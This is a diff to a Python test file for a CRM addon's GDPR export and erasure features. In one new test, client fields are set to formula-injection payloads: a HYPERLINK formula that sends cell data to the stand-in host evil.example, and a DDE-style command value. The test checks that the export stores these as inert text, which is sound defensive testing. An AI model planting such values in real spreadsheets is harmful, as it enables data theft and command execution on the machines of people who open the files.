@@ -51,10 +51,45 @@ class TestGdpr(SmartbookCrmCase):
     def test_export_xlsx(self):
         action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export_xlsx()
         workbook = openpyxl.load_workbook(io.BytesIO(self._download(action)))
-        self.assertEqual(workbook.sheetnames, ["client", "consents", "photos"])
+        # Other addons add their sections (smartbook_booking: the bookings).
+        self.assertEqual(workbook.sheetnames[:3], ["client", "consents", "photos"])
         header = [cell.value for cell in workbook["client"][1]]
         values = dict(zip(header, [cell.value for cell in workbook["client"][2]], strict=True))
         self.assertEqual(values["email"], "greta@example.se")
+
+    def test_export_xlsx_writes_no_formula(self):
+        formula = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
+        self.client.write({"name": formula, "city": "+cmd|' /C calc'!A0"})
+        action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export_xlsx()
+        workbook = openpyxl.load_workbook(io.BytesIO(self._download(action)))
+        header = [cell.value for cell in workbook["client"][1]]
+        cells = dict(zip(header, workbook["client"][2], strict=True))
+        self.assertEqual((cells["name"].value, cells["name"].data_type), (formula, "s"))
+        self.assertEqual(cells["city"].data_type, "s")
+        formulas = [
+            cell.coordinate
+            for sheet in workbook.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.data_type == "f"
+        ]
+        self.assertFalse(formulas)
+
+    def test_export_holds_everything_erasure_blanks(self):
+        Partner = self.env["res.partner"]
+        self.assertLessEqual(
+            set(Partner._smartbook_erased_fields()), set(Partner._smartbook_personal_fields())
+        )
+        self.client.telegram_chat_id = "424242"
+        action = self.client.with_user(self.user_manager).action_smartbook_gdpr_export()
+        client = json.loads(self._download(action))["client"][0]
+        self.assertEqual(client["telegram_chat_id"], "424242")
+        self.assertEqual(client["smartbook_notes"], "Allergic to nuts")
+        for name in Partner._smartbook_erased_fields():
+            self.assertIn(name, client)
+        self.client.with_user(self.user_manager).action_smartbook_gdpr_erase()
+        self.assertFalse(self.client.telegram_chat_id)
+        self.assertFalse(self.client.smartbook_consent_sms)
 
     def test_employee_cannot_handle_personal_data(self):
         client = self.client_of_employee.with_user(self.user_employee)
